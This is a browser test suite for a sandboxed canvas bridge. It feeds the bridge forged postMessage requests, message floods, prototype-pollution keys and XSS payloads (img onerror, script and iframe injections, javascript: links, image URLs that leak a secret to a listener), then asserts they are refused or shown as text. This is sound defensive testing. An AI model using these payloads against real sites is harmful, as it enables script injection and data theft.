"""Hostile messages over the bridge, and hostile values: requests are refused, and values stay text."""

from __future__ import annotations

import asyncio
import json
from typing import TYPE_CHECKING

import pytest
import pytest_asyncio
from playwright.async_api import BrowserContext, Page, expect

from tests.browser.canvas import (
    COCKPIT_SPEC,
    EMPTY_PAGE,
    MINIMAL_PAGE,
    CanvasApi,
    loaded_frame,
    make_hostile_canvas,
    open_canvas,
    wait_in_frame,
)
from tests.browser.canvas_ways_out import (
    listen,
)
from tests.browser.console import TIMEOUT_SECONDS
from tests.requirements import case, rule

if TYPE_CHECKING:
    from tests.support.processes import EaselProcess

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

LEAK_SECONDS = 1.5  # a request of a page arrives within a few milliseconds


@pytest_asyncio.fixture(loop_scope="session")
async def page(context: BrowserContext) -> Page:
    """Open a page whose script errors do not fail the test."""
    return await context.new_page()


# --- U5, CV-05: the bridge ----------------------------------------------------------------------------------

RECORD_MESSAGES = """addEventListener('message', ({data}) => {
    if (data?.gsv && data.nonce) window.nonce = data.nonce;
    if (data?.gsv && data.kind === 'answer') window.answered = data;
  });"""


@case("U5", "X5")
@rule("CV-05", "RS-67")
async def test_forged_bridge_request_is_refused_and_audited(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    name = make_hostile_canvas(api, RECORD_MESSAGES)
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "window.nonce")
    for forged in (
        {"kind": "tool.call", "tool": "gsv__Echo", "args": {"value": 1}},
        {"kind": "req", "method": "tool.invoke", "params": {"tool": "gsv__Echo"}},
        {"kind": "tool.invoke", "tool": "gsv__Echo", "args": {"value": 1}},
        {"kind": "confirm", "confirmationId": "evt_x", "approve": True},
        {"kind": "canvas.patch", "statePatch": [{"op": "add", "path": "/service", "value": "forged"}]},
        {"kind": "__proto__"},
        {"kind": "constructor"},
    ):
        await frame.evaluate(
            "(forged) => parent.postMessage({gsv: 1, nonce, id: 'f', ...forged}, '*')", forged
        )
        await wait_in_frame(frame, "window.answered?.id === 'f'")
        assert await frame.evaluate("answered.error.code") == 403
        await frame.evaluate("answered = null")
    await expect(page.locator("#notes-list")).to_contain_text("requested something that no page may")
    await api.until(
        lambda: any(one["what"] == "kind" for one in api.audit("canvas.page.refused", name)), "the record"
    )
    assert api.records(name) == []
    assert api.state(name)["service"] == "api"


@case("U5")
async def test_message_from_another_window_or_with_a_wrong_nonce_is_dropped(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    """A frame inside of the page, a wrong or old nonce, or the shell's own window runs no action."""
    action = "{gsv: 1, kind: 'action', id: 'x', actionId: 'setDeploying', input: {}, nonce: "
    name = make_hostile_canvas(api, RECORD_MESSAGES)
    api.put(
        name,
        "assets/inner.js",
        f"parent.parent.postMessage({action} 'guessed'}}, '*'); addEventListener('message', (e) => "
        f"parent.parent.postMessage({action} e.data}}, '*'))",
    )
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "window.nonce")
    old = await frame.evaluate("nonce")
    await frame.evaluate(
        """(folder) => {
          const inner = document.createElement('iframe');
          inner.onload = () => { inner.contentWindow.postMessage(nonce, '*'); window.isIn = true };
          inner.srcdoc = `<script src="${folder}inner.js"></script>`;
          document.body.append(inner);
        }""",
        frame.url.rpartition("/")[0] + "/",
    )
    await wait_in_frame(frame, "window.isIn")
    await frame.evaluate(f"parent.postMessage({action} 'guessed'}}, '*')")
    await frame.evaluate("parent.postMessage({gsv: 1, kind: 'hello'}, '*')")
    await wait_in_frame(frame, f"nonce !== {json.dumps(old)}")
    await frame.evaluate(f"parent.postMessage({action} {json.dumps(old)}}}, '*')")
    await page.evaluate(f"postMessage({action} {json.dumps(old)}}}, '*')")
    await api.until(
        lambda: {record["what"] for record in api.audit("canvas.page.refused", name)} >= {"source", "nonce"},
        "the records",
    )
    assert api.records(name) == []
    assert "status" not in api.state(name)
    await frame.evaluate(f"parent.postMessage({action} nonce}}, '*')")
    await api.until(lambda: api.state(name).get("status") == "deploying", "with the right one it does run")


OVERSIZED = {
    "10 MB of text": "'x'.repeat(10_000_000)",
    "a sparse array": "(() => { const a = []; a.length = 4e9; return a })()",
    "many small values": "Array.from({length: 200_000}, (_, n) => n)",
    "deep nesting": "(() => { let a = {}; for (let n = 0; n < 2000; n += 1) a = {a}; return a })()",
    "a Map": "new Map([[1, 2]])",
    "bytes": "new ArrayBuffer(5_000_000)",
    "a big integer": "10n ** 50n",
    "a cycle": "(() => { const a = {}; a.a = a; return a })()",
}


@case("U5")
async def test_oversized_message_is_dropped(page: Page, server: EaselProcess, api: CanvasApi) -> None:
    name = make_hostile_canvas(api, RECORD_MESSAGES)
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "window.nonce")

    def refused_count() -> int:
        records = api.audit("canvas.page.refused", name)
        return sum(record["refused"] for record in records if record["what"] == "size")

    for value in OVERSIZED.values():
        await frame.evaluate(
            "parent.postMessage({gsv: 1, nonce, kind: 'action', id: 'x', actionId: 'setDeploying', "
            f"input: {{ value: {value} }} }}, '*')"
        )
    await api.until(lambda: refused_count() == len(OVERSIZED), "one refusal for each message")
    assert api.records(name) == []
    run = "gsvCanvas.runAction('setDeploying').then((answer) => answer.status)"
    assert await frame.evaluate(run) == "completed", "valid messages are still accepted"


@case("U5", "R4")
async def test_message_flood_is_limited(page: Page, server: EaselProcess, api: CanvasApi) -> None:
    name = make_hostile_canvas(api, RECORD_MESSAGES)
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "window.nonce")
    began = asyncio.get_running_loop().time()
    await frame.evaluate(
        "for (let n = 0; n < 10_000; n += 1) parent.postMessage({gsv: 1, nonce, kind: 'action', id: 'i' + "
        "n, actionId: 'setDeploying', input: {}}, '*')"
    )

    def refused_count() -> int:
        """Sum the reports, which come once a second."""
        return sum(one["refused"] for one in api.audit("canvas.page.refused", name) if one["what"] == "rate")

    await api.until(lambda: refused_count() > 9_000, "the record")
    took = asyncio.get_running_loop().time() - began
    assert len(api.records(name)) <= 200 + 60 * took, "a burst, and what may come in that time"
    # It answers as quickly as a page to which nothing happens, asked in the same moment: the machine may be
    # slow.
    idle = await page.context.new_page()
    began = asyncio.get_running_loop().time()

    async def measure_response(one: Page) -> float:
        await one.evaluate("1")
        return asyncio.get_running_loop().time() - began

    flooded, floor = await asyncio.gather(measure_response(page), measure_response(idle))
    assert flooded - floor < 2
    assert flooded < TIMEOUT_SECONDS, "and neither of them is kept waiting by the flood"
    api.patch(name, "/service", "still here")
    await wait_in_frame(frame, "gsvCanvas.getState().service === 'still here'")


async def test_paths_through_prototypes_are_not_resolved(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    places = [
        "state.__proto__.polluted",
        "state.constructor.name",
        "state.constructor.prototype.polluted",
        "__proto__",
        "state.service.length",
        "state.hosts.length",
    ]
    tags = "".join(f'<i data-gsv-text="{place}"></i>' for place in places) + "".join(
        f'<input data-gsv-model="{place}">' for place in places[:4]
    )
    name = api.make(
        f"{EMPTY_PAGE}{tags}<form data-gsv-action=say><input name=__proto__ value=x><input name=word "
        f"value=w><button>Go</button></form>"
    )
    api.patch(name, "/hosts", [1, 2])
    frame = await open_canvas(page, server, name)
    await expect(frame.locator("i")).to_have_text([""] * len(places))
    for number in range(4):
        await frame.locator("input[data-gsv-model]").nth(number).fill("polluted")
    await frame.get_by_text("Go").click()
    await api.until(lambda: (api.state(name).get("said") or {}).get("result") == "w/", "the form's action")
    assert await (await loaded_frame(page)).evaluate(
        "({}).polluted === undefined && Object.prototype.x === undefined"
    )
    assert await page.evaluate("({}).polluted === undefined")
    assert set(api.state(name)) == {*COCKPIT_SPEC["state"], "hosts", "said"}


@case("X7")
async def test_tool_result_with_prototype_names_is_plain_data(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    """A written state with such names is refused; a result cannot be."""
    evil = {
        "__proto__": {"polluted": "x", "toString": "y"},
        "constructor": {"prototype": {"polluted": "x"}},
        "hasOwnProperty": 1,
    }
    bring = {"kind": "tool.call", "tool": "gsv__Echo", "args": {"value": evil}}
    spec = {
        "version": 1,
        "toolPolicy": {"allow": ["gsv__Echo"]},
        "actions": {
            "bring": {**bring, "saveAs": "kept"},
            "merge": {**bring, "saveAs": "merged", "saveMode": "merge"},
            "list": {**bring, "saveAs": "list", "saveMode": "append"},
        },
    }
    page_of_its_own = (
        f'{EMPTY_PAGE}<button data-gsv-action="bring">Bring</button><button '
        f'data-gsv-action="merge">Merge</button>'
        '<button data-gsv-action="list">List</button><pre data-gsv-text="state.kept.result"></pre>'
    )
    for html in (page_of_its_own, None):
        name = api.make(html, spec)
        frame = await open_canvas(page, server, name)
        for button in ("Bring", "Merge", "List"):
            await frame.get_by_role("button", name=button).click()
        await api.until(lambda name=name: {"kept", "merged", "list"} <= api.state(name).keys(), "all results")
        await expect(frame.locator("pre:visible").first).to_contain_text('"__proto__"')
        canvas_frame = await loaded_frame(page)
        await wait_in_frame(
            canvas_frame, "gsvCanvas.getState().list?.length === 1 && 'merged' in gsvCanvas.getState()"
        )
        assert await canvas_frame.evaluate("Object.hasOwn(gsvCanvas.getState().kept.result, '__proto__')"), (
            "as it came"
        )
        clean = (
            "({}).polluted === undefined && [].polluted === undefined && `${{}}` === '[object Object]' && "
            "typeof Object.prototype.hasOwnProperty === 'function'"
        )
        for place in (canvas_frame, page):
            assert await place.evaluate(clean)
        await open_canvas(page, server, name)  # and as a page that is opened then reads it
        await wait_in_frame(await loaded_frame(page), "'kept' in gsvCanvas.getState()")
        for place in (await loaded_frame(page), page):
            assert await place.evaluate(clean)
        await expect(page.locator("#notes")).to_be_hidden()


# --- P5: what tools bring -----------------------------------------------------------------------------------


@case("P5")
async def test_tool_result_is_shown_as_text_and_fetches_nothing(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    async with listen() as listener:
        evil = (
            f'![x](http://{listener.address}/?q=secret) <img src="http://{listener.address}/img" '
            f'onerror="parent.x=1"> <script>top.x=1</script> http://{listener.address}/auto '
            f"[go](javascript:x)"
        )
        spec = {
            **COCKPIT_SPEC,
            "actions": {
                **COCKPIT_SPEC["actions"],
                "bring": {
                    "kind": "tool.call",
                    "tool": "gsv__Echo",
                    "args": {"value": evil},
                    "saveAs": "logsTail",
                    "confirm": "always",
                    "title": evil[:150],
                },
            },
        }
        for html in (MINIMAL_PAGE.replace("refreshLogs", "bring"), None):
            name = api.make(html, spec)
            api.patch(name, "/service", evil)
            frame = await open_canvas(page, server, name)
            await frame.locator("[data-gsv-action=bring]").click()
            await expect(page.locator("#consent-call")).to_contain_text(evil)
            await page.get_by_role("button", name="Approve").click()
            await expect(frame.locator("pre:visible").first).to_contain_text(evil)
            assert await frame.locator("img, a").count() == 0
            assert await page.locator("#stage ~ * img, header img, dialog img").count() == 0
        broken = api.make(
            f"{EMPTY_PAGE}<b data-gsv-action='![x](http://{listener.address}/y)<img "
            f"src=http://{listener.address}/z>'></b>"
        )
        await open_canvas(page, server, broken)
        await expect(page.locator("#notes-list")).to_contain_text("<img src=")
        assert await page.locator("#notes img").count() == 0
        await asyncio.sleep(LEAK_SECONDS / 2)
        assert listener.received == []
        assert await page.evaluate("window.x === undefined")


async def test_value_inserted_as_html_runs_no_script(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    """An author's mistake that the policy contains: only scripts of the stored page run."""
    name = api.make(
        f"{EMPTY_PAGE}<div id=here></div><script>gsvCanvas.subscribe((state) => "
        f"{{ here.innerHTML = state.service }}); window.inline = true</script>"
    )
    api.patch(
        name,
        "/service",
        "<img src=x onerror='window.pwned=1'><iframe srcdoc='<script>parent.pwned=1</script>'></iframe><a "
        "href='javascript:pwned=1'>x</a>",
    )
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "document.querySelector('#here a')")
    assert await frame.evaluate("inline"), "the script that the page came with did run"
    await frame.evaluate("document.querySelector('#here a').click()")
    await asyncio.sleep(0.2)
    assert await frame.evaluate("window.pwned === undefined")
    await expect(page.locator("#notes-list")).to_contain_text("Blocked by the page's policy")
